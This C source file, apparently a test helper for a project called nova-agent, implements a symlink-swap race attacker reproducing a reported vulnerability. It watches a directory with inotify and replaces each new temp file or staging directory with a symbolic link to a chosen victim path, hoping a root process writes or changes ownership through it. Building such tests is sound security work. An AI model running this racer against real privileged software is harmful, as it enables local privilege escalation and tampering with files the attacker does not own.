/* SPDX-License-Identifier: Apache-2.0 — nova-agent */
/*
 * The attacker of issue #19 finding 1, for tests: runs as an unprivileged user who owns DIR,
 * watches it with inotify and, the moment any entry other than KEEP appears (a temp file, a
 * staging directory), renames it away and puts a symbolic link to VICTIM in its place, hoping the
 * root process then writes, chowns or chmods through the link. Prints one line per swap.
 * Usage: swap-racer DIR KEEP VICTIM   (runs until killed)
 */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap-racer DIR KEEP VICTIM\n");
        return 2;
    }
    if (chdir(argv[1]) != 0) {
        perror("chdir");
        return 1;
    }
    int fd = inotify_init();
    if (fd < 0 || inotify_add_watch(fd, ".", IN_CREATE | IN_MOVED_TO) < 0) {
        perror("inotify");
        return 1;
    }
    printf("watching\n");
    fflush(stdout);
    char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)];
    unsigned long n = 0;
    for (;;) {
        ssize_t len = read(fd, buf, sizeof buf);
        if (len <= 0) {
            return 1;
        }
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *ev = (struct inotify_event *) p;
            p += sizeof(struct inotify_event) + ev->len;
            if (ev->len == 0 || strcmp(ev->name, argv[2]) == 0 || strncmp(ev->name, "moved-", 6) == 0) {
                continue;
            }
            char moved[NAME_MAX + 32];
            snprintf(moved, sizeof moved, "moved-%lu", n++);
            if (rename(ev->name, moved) == 0 && symlink(argv[3], ev->name) == 0) {
                printf("swapped %s\n", ev->name);
                fflush(stdout);
            }
        }
    }
}
